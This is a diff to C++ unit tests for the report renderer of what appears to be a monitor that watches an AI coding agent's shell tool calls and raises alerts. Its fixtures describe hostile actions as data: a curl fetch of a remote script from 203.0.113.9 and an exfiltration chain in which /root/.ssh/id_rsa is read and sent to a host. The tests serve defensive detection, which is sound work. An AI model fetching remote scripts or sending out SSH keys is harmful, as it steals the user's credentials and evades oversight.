@@ -100,9 +100,52 @@ TEST(report, text_fits_80_columns_and_names_what_happened) {
 
 TEST(report, alerts_are_listed) {
     std::string text = render_report(report_of("/correlate/unexplained.jsonl", true));
-    EXPECT_TRUE(has_line(text, "Alerts (2)"));
+    EXPECT_TRUE(has_line(text, "Alerts (3)"));
     EXPECT_TRUE(has_line(text, "warning  unexplained: exec curl -s http://203.0.113.9:8080/x.sh"));
+    EXPECT_TRUE(has_line(text, "warning  unexplained_network: connection to 203.0.113.9:8080"));
     EXPECT_TRUE(has_line(text, "warning  opaque_connection: connection to 203.0.113.9:8080"));
+}
+
+TEST(report, alerts_are_grouped_by_rule_once_with_a_count_and_a_chain) {
+    json r = report_of("/correlate/unexplained.jsonl", true);
+    json chain = {{"llm_call_ts", 1},
+                  {"call_id", "toolu_1"},
+                  {"tool_name", "Bash"},
+                  {"processes", json::array({{{"pid", 7100}, {"comm", "claude"}},
+                                             {{"pid", 7200}, {"comm", "bash"}},
+                                             {{"pid", 7202}, {"comm", "curl"}}})},
+                  {"file", "/root/.ssh/id_rsa"},
+                  {"host", "127.0.0.2:8080"},
+                  {"why", "a secret was read and the same command opened a connection out"}};
+    json alerts = json::array();
+    for (int i = 0; i < 3; ++i)
+        alerts.push_back({{"ts", i},
+                          {"rule", "unexplained"},
+                          {"severity", "warning"},
+                          {"message", "exec x" + std::to_string(i)},
+                          {"pids", json::array({7300 + i})}});
+    alerts.push_back({{"ts", 9},
+                      {"rule", "exfiltration"},
+                      {"severity", "critical"},
+                      {"message", "key sent"},
+                      {"pids", json::array({7202})},
+                      {"chain", chain}});
+    r["alerts"] = alerts;
+    r["alert_groups"] = group_alerts(alerts);
+    ASSERT_EQ(r["alert_groups"].size(), 2u);
+    EXPECT_EQ(r["alert_groups"][0]["rule"], "exfiltration") << "most severe first";
+    EXPECT_EQ(r["alert_groups"][1]["count"], 3);
+    EXPECT_EQ(r["alert_groups"][1]["pids"], json::array({7300, 7301, 7302}));
+    const std::string text = render_report(r, 200);
+    EXPECT_TRUE(has_line(text, "Alerts (4)"));
+    EXPECT_TRUE(has_line(text, "  critical exfiltration: key sent"));
+    EXPECT_TRUE(has_line(text, "  warning  unexplained (3x): exec x0"));
+    EXPECT_TRUE(has_line(text,
+                         "chain: Bash call toolu_1 > claude (7100) > bash (7200) > curl "
+                         "(7202); file /root/.ssh/id_rsa; host 127.0.0.2:8080"))
+        << text;
+    EXPECT_TRUE(
+        has_line(text, "why: a secret was read and the same command opened a connection out"));
 }
 
 TEST(report, json_form_parses_back) {
